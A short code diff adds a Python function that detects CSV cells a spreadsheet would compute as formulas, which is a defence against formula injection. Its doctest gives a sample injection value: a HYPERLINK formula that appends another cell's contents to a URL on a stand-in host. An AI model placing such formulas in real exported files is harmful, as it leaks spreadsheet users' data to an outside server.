@@ -45,6 +45,17 @@ def visible_document(document: Any) -> Any:
     return document
 
 
+def computed(text: str) -> bool:
+    """Whether a spreadsheet that opens a CSV with this cell computes it, instead of showing it.
+
+    Examples
+    --------
+    >>> computed('=HYPERLINK("http://example.org/?" & A2)'), computed("age = 3")
+    (True, False)
+    """
+    return text.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
 def as_markdown(text: str) -> str:
     r"""The text as Markdown that shows it: no link, no markup, no HTML, on one line.
 
